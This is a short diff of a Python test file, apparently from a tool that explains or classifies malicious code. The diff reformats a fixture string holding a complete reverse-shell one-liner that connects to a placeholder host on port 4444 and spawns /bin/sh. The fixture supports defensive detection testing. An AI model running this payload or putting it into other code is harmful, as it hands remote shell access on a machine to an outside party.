@@ -9,7 +9,10 @@ import pytest
 
 from antivenom.pycode import VERDICTS, explain, explain_source
 
-SHELL = "import socket,os,pty;s=socket.socket();s.connect(('{host}',{port}));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('{shell}')"
+SHELL = (
+    "import socket,os,pty;s=socket.socket();s.connect(('{host}',{port}));"
+    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('{shell}')"
+)
 
 
 def shell(host: str = "192.0.2.10", port: int = 4444, shell: str = "/bin/sh") -> str:
